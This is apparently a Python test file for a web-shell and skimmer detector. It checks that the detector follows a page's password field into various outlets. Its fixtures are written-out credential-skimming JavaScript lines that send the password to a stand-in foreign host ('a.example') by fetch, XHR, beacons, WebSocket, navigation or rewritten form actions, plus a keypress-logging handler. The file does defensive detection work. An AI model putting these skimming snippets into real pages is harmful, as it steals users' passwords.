"""What scripts do with a password, followed from the field to where it goes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders.steps import at_most
from webshellhunt.analysis.browser.channels import Channel
from webshellhunt.client_scripts.exfiltration import Destination
from webshellhunt.client_scripts.script_analysis import Fields, Script, ScriptAnalysis, analyse_scripts
from webshellhunt.decoding.charset import DecodedText
from webshellhunt.pages.includes.resolver import Resolution
from webshellhunt.pages.page import Dependency, DependencyKind

FIELD = '<form id="f"><input type="password" id="pw"></form>'
TAKEN = 'p = document.getElementById("pw").value;'


def nothing(_address: str, _start: int, _end: int) -> Script | None:
    return None


def analysed(script: str) -> ScriptAnalysis:
    return analyse_scripts(f"{FIELD}<script>{script}</script>", nothing, is_script=False)


def channels(script: str) -> list[tuple[Channel, Destination]]:
    return [(exfiltration.channel, exfiltration.address.destination) for exfiltration in analysed(script).exfiltrations]


@pytest.mark.parametrize(
    "value",
    [
        'document.getElementById("pw").value',
        'document.getElementById("p" + "w").value',
        'document.querySelector("#f #pw").value',
        'document.querySelector("input[type=password]").value',
        "document.forms[0].pw.value",
        'document.forms.f["pw"].value',
        'document.getElementById("<%= pw.ClientID %>").value',
        '$("#ctl00_pw").val()',
        "`a${document.getElementById('pw').value}`",
        'btoa(JSON.stringify({ a: $("#pw").val().trim() }))',
        "new FormData(document.forms[0])",
        '$("#f").serialize()',
    ],
)
def test_a_password_is_known_however_it_is_taken(value: str) -> None:
    assert channels(f'fetch("//a.example", {value});') == [(Channel.REQUEST, Destination.FOREIGN)]


@pytest.mark.parametrize(
    "value",
    [
        'document.getElementById("pw").value.length',
        'document.getElementById("pw").value == ""',
        'document.getElementById("pw").value ? 1 : 0',
        'sha1(document.getElementById("pw").value)',
        'zxcvbn(document.getElementById("pw").value).score',
        'document.getElementById("user").value',
        'document.getElementById("pw").id',
        '$("#other").serialize()',
        "new FormData()",
        "function () { return 1; }",
    ],
)
def test_what_says_nothing_of_the_password_is_let_out(value: str) -> None:
    assert channels(f'fetch("//a.example", {value});') == []


@pytest.mark.parametrize(
    ("sink", "channel", "destination"),
    [
        ('x.open("GET", "//a.example/?" + p); x.send();', Channel.REQUEST, Destination.FOREIGN),
        ('x.open("POST", "/login"); x.send(p);', Channel.REQUEST, Destination.OWN),
        ('new Image().src = "/x.gif?" + p;', Channel.BEACON, Destination.SENT),
        ('i.setAttribute("src", "//a.example/" + p);', Channel.BEACON, Destination.FOREIGN),
        ("document.cookie = p;", Channel.COOKIE, Destination.KEPT),
        ("sessionStorage.a = p;", Channel.STORAGE, Destination.KEPT),
        ('localStorage["a"] = p;', Channel.STORAGE, Destination.KEPT),
        ('location.href = "//a.example/?" + p;', Channel.NAVIGATION, Destination.FOREIGN),
        ('w = new WebSocket("wss://a.example"); w.send(p);', Channel.SOCKET, Destination.FOREIGN),
        ('$.ajax({ type: "POST", url: "//a.example", data: p });', Channel.REQUEST, Destination.FOREIGN),
        ('navigator.sendBeacon("//a.example", p);', Channel.REQUEST, Destination.FOREIGN),
        ('var f = new FormData(); f.append("a", p); fetch("//a.example", f);', Channel.REQUEST, Destination.FOREIGN),
        ('function go(u, d) { fetch(u, d); } go("//a.example", p);', Channel.REQUEST, Destination.FOREIGN),
        ('const go = d => { fetch("//a.example", d); }; go(p);', Channel.REQUEST, Destination.FOREIGN),
        ('function q() { return p; } fetch("//a.example", q());', Channel.REQUEST, Destination.FOREIGN),
        ('var h = "//a"; var u = h + ".example"; fetch(u, p);', Channel.REQUEST, Destination.FOREIGN),
    ],
)
def test_each_way_out_is_seen(sink: str, channel: Channel, destination: Destination) -> None:
    assert (channel, destination) in channels(TAKEN + sink)


def test_a_name_means_another_variable_in_another_function() -> None:
    script = 'function a() { var e = document.forms[0].pw.value; } function b(e) { fetch("//a.example", e); }'
    assert channels(script) == []


def test_lines_without_semicolons_are_statements() -> None:
    assert channels('var a = "x"\nvar p = document.forms[0].pw.value\nfetch("//a.example", a)') == []


def test_keys_are_followed_from_their_handler() -> None:
    script = (
        'document.onkeypress = log; function log(e) { fetch("/k?" + e.which); } function other(e) { fetch(e.which); }'
    )
    (exfiltration,) = analysed(script).exfiltrations
    assert exfiltration.logs_keys


def test_a_form_is_sent_elsewhere() -> None:
    assert channels('document.forms[0].action = "https://a.example/";') == [(Channel.FORM, Destination.FOREIGN)]
    found = analyse_scripts('<form action="//a.example/"><input type=password></form>', nothing, is_script=False)
    assert [address.shown for _, address in found.foreign_forms] == ["a.example"]


@pytest.mark.parametrize(("by_request", "shown"), [("true", ["a.example"]), ("false", []), ("", [])])
def test_a_form_that_a_library_submits_by_a_request(by_request: str, shown: list[str]) -> None:
    form = f'<form data-ajax="{by_request}" data-ajax-url="//a.example/" action="/x"><input type=password></form>'
    found = analyse_scripts(form, nothing, is_script=False)
    assert [address.shown for _, address in found.foreign_forms] == shown


def test_a_page_without_a_password_field_is_left_alone() -> None:
    assert (
        analyse_scripts(f"<script>{TAKEN}document.cookie = p;</script>", nothing, is_script=False).exfiltrations == []
    )


def test_a_script_by_itself_knows_usual_names() -> None:
    text = 'var p = gbid("passwordText").value; document.cookie = p;'
    (exfiltration,) = analyse_scripts(text, nothing, is_script=True).exfiltrations
    script, start, end = analyse_scripts(text, nothing, is_script=True).place(exfiltration.place)
    assert (script, text[start:end]) == (None, "cookie")
    assert analyse_scripts(text.replace("passwordText", "hint"), nothing, is_script=True).exfiltrations == []


def test_a_loaded_script_is_joined_and_leads_back() -> None:
    code = "function keep(v) { document.cookie = v; }"
    asked = []

    def read(address: str, start: int, end: int) -> Script:
        asked.append(address)
        pulled = Resolution(Dependency(DependencyKind.CLIENT_SCRIPT, address, start, end), "a.js", code.encode())
        return pulled, DecodedText("ascii", "ascii", code, code.encode())

    page = f'{FIELD}<script src="a.js"></script><script>keep(document.forms[0].pw.value);</script>'
    found = analyse_scripts(page, read, is_script=False)
    (exfiltration,) = found.exfiltrations
    assert asked == ["a.js"]
    script, start, end = found.place(exfiltration.place)
    assert script is not None
    assert code[start:end] == "cookie"
    assert exfiltration.trace is not None
    script, start, end = found.place(exfiltration.trace.place)
    assert (script, page[start:end]) == (None, "document")


PIECES = [
    "p",
    "=",
    "(",
    ")",
    "{",
    "}",
    "function",
    "=>",
    ",",
    ";",
    ".value",
    '"pw"',
    "$",
    "fetch",
    "[",
    "]",
    "\n",
    "var",
]


@given(st.lists(st.sampled_from(PIECES)).map(" ".join))
def test_any_script_is_read(script: str) -> None:
    found = analysed(script)
    for exfiltration in found.exfiltrations:
        assert found.place(exfiltration.place)[2] > found.place(exfiltration.place)[1]


@pytest.mark.parametrize(
    "piece",
    ["a=", "x=>", "u=u+u;fetch(u,p);", 'getElementById("a"+"b");', "function f(a){", "((((p))))", "var a "],
)
def test_hostile_scripts_are_bounded(piece: str) -> None:
    with at_most(20_000_000):
        analysed(TAKEN + piece * (30_000 // len(piece)))


@pytest.mark.parametrize(("name", "known"), [("pw", True), ("user", False)])
def test_a_field_of_the_page_is_known_by_its_name(name: str, known: bool) -> None:
    assert Fields({"pw"}, asks_password=True).is_named(name) is known


def test_without_fields_of_its_own_a_script_has_the_usual_ones() -> None:
    assert Fields(set(), asks_password=False).is_named("password")
    assert not Fields(set(), asks_password=False).is_named("city")
